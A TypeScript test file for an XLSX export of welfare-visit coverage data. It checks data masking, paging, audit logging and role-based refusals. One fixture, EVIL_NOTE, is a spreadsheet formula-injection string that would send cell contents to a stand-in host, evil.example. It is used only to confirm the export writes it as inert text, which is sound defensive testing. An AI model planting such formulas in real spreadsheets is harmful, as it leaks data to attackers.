import type { DbKind } from '../../db'
import type { NewVisit } from '../../db/repos/visits'
import type { LeftAssistanceHousehold, NotVisitedHousehold } from '../../services/visits/coverage'
import type { TestClient } from '../../testing'
import type { TestApp } from '../applications/test-builders'
import { randomUUID } from 'node:crypto'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DEMO_HOUSEHOLDS } from '../../../mock/demo-data'
import { quarterOf } from '../../../src/domain/quarter'
import { shanghaiToday } from '../../../src/domain/time'
import { COVERAGE_PAGE_SIZE } from '../../../src/domain/visits/api'
import { fieldCipher } from '../../crypto/field-cipher'
import { insertVisitOnce } from '../../db/repos/visits'
import { workbookStream } from '../../services/staff/xlsx'
import { allText, readXlsx, records, savedFileName } from '../../services/staff/xlsx-test-support'
import { everyLeftAssistance, everyNotVisited, EXPORT_PAGE_SIZE } from '../../services/visits/coverage'
import { createTestApp, TEST_DIALECTS } from '../../testing'
import { residentOf, staffClient } from '../applications/test-builders'
import { coverageSheets } from './coverage-export'

/** A fresh seeded database and a few sign-ins: slow on a busy machine (password hashing). */
const SETUP_TIMEOUT_MS = 60_000
const EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'
/** Households this file adds to 安乐镇: more than a page of each list. */
const EXTRA_HOUSEHOLDS = 70
const EXTRA_HEAD = '导出户主'

interface Household { householdId: string, maskedHeadName: string, villageName: string, lastVisitedAt: string | null, leftOn?: string }

/** A date cell as its Beijing day (exceljs reads Excel days as UTC midnight). */
const day = (value: unknown) => (value instanceof Date ? value.toISOString().slice(0, 10) : value)

describe.each(TEST_DIALECTS)('coverage export on %s', (kind: DbKind) => {
  let t: TestApp
  let town: TestClient
  let county: TestClient
  const quarter = quarterOf(shanghaiToday(new Date()))

  beforeAll(async () => {
    t = await createTestApp(kind)
    town = await staffClient(t, 'town')
    county = await staffClient(t, 'county')
    // A volunteer typed a note that a spreadsheet would run as a formula.
    const household = await t.db.kysely.selectFrom('households').select('id').where('registry_ref', '=', 'DEMO-TY-002').executeTakeFirstOrThrow()
    const visitor = await t.db.kysely.selectFrom('users').select('id').where('username', '=', 'volunteer').executeTakeFirstOrThrow()
    const id = randomUUID()
    const at = new Date().toISOString()
    const row: NewVisit = { id, client_id: id, household_id: household.id, visitor_id: visitor.id, visitor_role: 'volunteer', organisation: '@和美村志愿服务队', type: 'care', visited_at: at, observations: '[]', urgent: 1, urgent_note: EVIL_NOTE, notes: '', photo: null, location: null, accuracy: null, created_at: at, flag_resolved_at: null, flag_resolved_by: null }
    await insertVisitOnce(t.db.kysely, row)
    // More households than one page of each list: never visited, and most left dibao 30 days ago.
    const k = t.db.kysely
    const cipher = fieldCipher()
    const households = Array.from({ length: EXTRA_HOUSEHOLDS }, (_, i) => ({ id: randomUUID(), registry_ref: `XLSX-${String(i).padStart(3, '0')}`, area_code: i % 3 === 0 ? '339901001002' : '339901001001', address: cipher.seal(`导出地址 ${i}`), created_at: at }))
    await k.insertInto('households').values(households).execute()
    await k.insertInto('household_members').values(households.map((h, i) => {
      const idNumber = `33990119700101${String(i).padStart(3, '0')}X`
      return { id: randomUUID(), household_id: h.id, id_number: cipher.seal(idNumber), id_number_hash: cipher.index('id_number', idNumber), name: `${EXTRA_HEAD}${i}`, relation: 'self', birth_date: '1970-01-01', is_head: 1 }
    })).execute()
    const stoppedOn = shanghaiToday(new Date(Date.now() - 30 * 86_400_000))
    await k.insertInto('benefit_records').values(households.filter((_, i) => i % 10 !== 0).map(h => ({ id: randomUUID(), household_id: h.id, department: 'mingzheng' as const, external_id: `X-${randomUUID()}`, item: 'dibao' as const, kind: 'cash' as const, amount_fen: 0, quantity: null, unit: null, period: stoppedOn.slice(0, 7), paid_on: stoppedOn, member_ids: '[]', status: 'stopped' as const, source: 'feed' as const, reference: null, credential_id: null, import_batch_id: null, created_at: at, updated_at: at }))).execute()
  }, SETUP_TIMEOUT_MS)
  afterAll(async () => {
    await t.close()
  })

  /** The list as the page shows it: its first page, then each next one. */
  async function pagedThrough(first: Household[], next: string | null, list: string): Promise<Household[]> {
    const all = [...first]
    for (let after = next; after !== null;) {
      const page = (await town.get(`/api/staff/visits/coverage/${list}?after=${after}`)).json()
      all.push(...page.households)
      after = page.next
    }
    return all
  }
  const lastVisit = (h: Household) => h.lastVisitedAt ? shanghaiToday(new Date(h.lastVisitedAt)) : '从未探访'

  it('should export the page\'s four tables with the same figures as the page, and its two lists whole', async () => {
    const page = (await town.get(`/api/staff/visits/coverage?quarter=${quarter}`)).json()
    const flags = (await town.get('/api/staff/visits/flags')).json().flags
    const res = await town.get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)
    const [villages, urgent, notVisited, left] = await readXlsx(res)
    expect([villages.name, urgent.name, notVisited.name, left.name]).toEqual(['各村探访情况', '紧急情况', '90天未探访', '退出救助仍需探访'])

    expect(records(villages).slice(0, -1)).toEqual(page.villages.map((v: { name: string, households: number, visited: number, percent: number }) => ({ '村（社区）': v.name, '登记户数': v.households, '已探访户数': v.visited, '探访率': v.percent / 100 })))
    const households = page.villages.reduce((s: number, v: { households: number }) => s + v.households, 0)
    expect(records(villages).at(-1)).toMatchObject({ '村（社区）': '安乐镇合计', '登记户数': households })
    expect(villages.rows[0][3].numFmt).toBe('0.0%')

    expect(records(urgent).map(r => [r['村（社区）'], r['户主'], day(r['探访日期']), r['探访人'], r['状态']])).toEqual(flags.map((f: { villageName: string, maskedHeadName: string, visitedAt: string, visitorName: string, resolvedAt: string | null }) => [
      f.villageName,
      f.maskedHeadName,
      shanghaiToday(new Date(f.visitedAt)),
      f.visitorName,
      f.resolvedAt === null ? '待处理' : '已处理',
    ]))
    // The page shows the first page of each list with its total; the file has every household, in the page's order.
    const notVisitedRows = records(notVisited).map(r => [r['户主'], r['村（社区）'], day(r['上次探访'])])
    expect(page.notVisited90Days).toHaveLength(COVERAGE_PAGE_SIZE)
    expect(notVisitedRows).toHaveLength(page.totals.notVisited90Days)
    expect(notVisitedRows.slice(0, COVERAGE_PAGE_SIZE)).toEqual(page.notVisited90Days.map((h: Household) => [h.maskedHeadName, h.villageName, lastVisit(h)]))
    expect(notVisitedRows).toEqual((await pagedThrough(page.notVisited90Days, page.next.notVisited90Days, 'not-visited')).map(h => [h.maskedHeadName, h.villageName, lastVisit(h)]))
    const leftRows = records(left).map(r => [r['户主'], r['村（社区）'], day(r['退出救助日期']), day(r['上次探访'])])
    expect(page.leftAssistanceDue).toHaveLength(COVERAGE_PAGE_SIZE)
    expect(leftRows).toHaveLength(page.totals.leftAssistanceDue)
    expect(leftRows).toEqual((await pagedThrough(page.leftAssistanceDue, page.next.leftAssistanceDue, 'left-assistance')).map(h => [h.maskedHeadName, h.villageName, h.leftOn, lastVisit(h)]))
    expect(savedFileName(res)).toBe(`探访覆盖-安乐镇-${quarter}-${shanghaiToday(new Date())}.xlsx`)
    expect(res.headers['cache-control']).toBe('no-store')
  })

  it('should read the whole lists from the database a page at a time, each household once, in the page\'s order', async () => {
    const page = (await town.get(`/api/staff/visits/coverage?quarter=${quarter}`)).json()
    const read = async <T>(items: AsyncIterable<T>) => {
      const out: T[] = []
      for await (const item of items)
        out.push(item)
      return out
    }
    // Seven at a time: many pages, each starting after the last household of the one before.
    const notVisited = await read(everyNotVisited(t.db.kysely, '339901001', new Date(), 7))
    expect(notVisited).toEqual(await pagedThrough(page.notVisited90Days, page.next.notVisited90Days, 'not-visited'))
    expect(notVisited.length).toBeGreaterThan(3 * 7)
    expect(new Set(notVisited.map(h => h.householdId)).size).toBe(notVisited.length)
    expect(await read(everyLeftAssistance(t.db.kysely, '339901001', new Date(), 7))).toEqual(await pagedThrough(page.leftAssistanceDue, page.next.leftAssistanceDue, 'left-assistance'))
  })

  it('should stop reading the lists while nobody takes the file, and write every row once it is taken', async () => {
    const ROWS = 10_000
    let read = 0
    // Households as the database pages them: a page, then a few milliseconds for the next query.
    async function* households(): AsyncGenerator<NotVisitedHousehold> {
      for (let i = 0; i < ROWS; i++) {
        if (i % EXPORT_PAGE_SIZE === 0)
          await new Promise(resolve => setTimeout(resolve, 2))
        read++
        yield { householdId: `h${i}`, maskedHeadName: `户${i}`, villageName: '和美村', lastVisitedAt: null }
      }
    }
    async function* none(): AsyncGenerator<LeftAssistanceHousehold> {}
    const stream = workbookStream(coverageSheets({ villages: [] }, [], { notVisited: households(), left: none() }, '安乐镇', 'zh-CN'), 'zh-CN', '探访覆盖')
    // Unread, it stops once the answer's buffer is full (about 2 000 rows here); unpaced it would read them all.
    await new Promise(resolve => setTimeout(resolve, 400))
    expect(read).toBeGreaterThan(0)
    expect(read).toBeLessThan(ROWS / 2)
    const chunks: Buffer[] = []
    for await (const chunk of stream)
      chunks.push(chunk as Buffer)
    expect(read).toBe(ROWS)
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer)
    const sheet = book.getWorksheet('90天未探访')!
    expect(sheet.rowCount).toBe(ROWS + 1)
    expect(sheet.getRow(ROWS + 1).getCell(1).value).toBe(`户${ROWS - 1}`)
  })

  it('should name households masked only, never a full name or ID number', async () => {
    const text = allText(await readXlsx(await county.get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)))
    for (const member of DEMO_HOUSEHOLDS.flatMap(h => h.members)) {
      expect(text).not.toContain(member.name)
      expect(text).not.toContain(member.idNumber)
    }
    expect(text).not.toContain(EXTRA_HEAD)
    expect(text).not.toMatch(/XLSX-|33990119700101/)
    // The county sees its household that left assistance (the demo's, in 长寿镇).
    expect(text).toContain('孙**')
  })

  it('should write a volunteer\'s formula-looking note and organisation as inert text', async () => {
    const [, urgent] = await readXlsx(await town.get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`))
    const row = urgent.rows.find(r => String(r[5].value).includes('HYPERLINK'))!
    for (const cell of [row[5], row[4]]) {
      expect(cell.type).toBe(ExcelJS.ValueType.String)
      expect(cell.formula).toBeUndefined()
      expect(cell.numFmt).toBe('@')
    }
    expect(row[5].value).toBe(`'${EVIL_NOTE}`)
    expect(row[4].value).toBe('\'@和美村志愿服务队')
  })

  it('should audit the export like a view, and refuse whom the page refuses', async () => {
    await t.db.kysely.deleteFrom('audit_log').where('action', '=', 'visit_coverage_export').execute()
    await town.get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)
    const audit = await t.db.kysely.selectFrom('audit_log').select(['actor_role', 'subject_type', 'subject_id', 'detail']).where('action', '=', 'visit_coverage_export').execute()
    const page = (await town.get(`/api/staff/visits/coverage?quarter=${quarter}`)).json()
    expect(audit).toEqual([{ actor_role: 'town_staff', subject_type: 'area', subject_id: '339901001', detail: expect.stringMatching(new RegExp(`^quarter=${quarter}; villages=2; flags=\\d+; notVisited=${page.totals.notVisited90Days}; left=${page.totals.leftAssistanceDue}$`)) }])
    expect(page.totals.notVisited90Days).toBeGreaterThan(COVERAGE_PAGE_SIZE)
    // Care visits are 民政's: 医保 staff, volunteers and residents get no export.
    expect((await (await staffClient(t, 'town_yibao')).get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)).statusCode).toBe(403)
    expect((await (await staffClient(t, 'volunteer')).get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)).statusCode).toBe(403)
    expect((await (await residentOf(t, 'liu')).get(`/api/staff/visits/coverage/export.xlsx?quarter=${quarter}`)).statusCode).toBe(403)
    expect((await town.get('/api/staff/visits/coverage/export.xlsx?quarter=2026-Q5')).statusCode).toBe(400)
  })
})
